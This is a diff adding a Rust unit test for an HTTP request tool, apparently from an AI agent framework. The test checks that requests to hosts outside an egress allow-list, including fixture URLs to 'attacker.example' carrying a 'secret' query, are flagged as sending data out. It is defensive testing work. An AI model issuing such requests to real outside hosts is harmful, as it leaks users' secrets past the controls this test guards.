@@ -220,3 +220,20 @@ fn risk_and_idempotency_follow_the_method() {
     assert_eq!(tool.tool_ref(), "http_request");
     assert_eq!(tool.input_schema()["required"], json!(["url"]));
 }
+
+#[test]
+fn any_method_to_a_host_off_the_egress_allow_list_sends_data_out() {
+    let tool = HttpRequestTool::new(guarded(""));
+    let scope = cortex_tools::DataScope { allowed_hosts: vec!["docs.example.com".into()], ..Default::default() };
+    for (input, leaves) in [
+        (json!({"url": "https://attacker.example/?q=secret"}), true),
+        (json!({"url": "https://attacker.example/", "method": "HEAD"}), true),
+        (json!({"url": "https://docs.example.com/page"}), false),
+        (json!({"url": "https://docs.example.com/form", "method": "POST"}), false),
+        (json!({"url": "not a url"}), true),
+        (json!({}), true),
+    ] {
+        assert_eq!(tool.sends_data_out(&input, &scope), leaves, "{input}");
+    }
+    assert!(tool.sends_data_out(&json!({"url": "https://docs.example.com/"}), &Default::default()));
+}
